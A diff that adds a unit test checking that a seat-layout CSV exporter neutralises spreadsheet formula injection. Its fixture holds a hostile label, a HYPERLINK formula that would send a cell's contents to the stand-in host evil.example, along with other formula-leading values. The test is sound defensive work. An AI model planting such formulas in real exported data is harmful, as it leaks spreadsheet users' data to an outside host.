@@ -64,3 +64,14 @@ describe('layout files', () => {
     expect(parseLayoutCsv('section,row,seat,x,y\n"unclosed,A,1,0,0\n')).toMatchObject({ ok: false, errors: [{ message: expect.stringContaining('could not be read') }] });
   });
 });
+
+describe('layout CSV export (review of issue 9)', () => {
+  it('escapes a section or row label that a spreadsheet would run as a formula', () => {
+    const csv = layoutToCsv([
+      { section: '=HYPERLINK("http://evil.example/?"&A1,"Stalls")', row: '+A', number: 1, x: 0, y: 0, kind: 'standard', blocked: false },
+      { section: 'Stalls', row: '@SUM(1)', number: 2, x: 1, y: 0, kind: 'standard', blocked: false },
+    ]);
+    const cells = csv.split(/\r?\n/).slice(1).join(',');
+    expect(cells).not.toMatch(/(^|,)"?[=+@]/);
+  });
+});
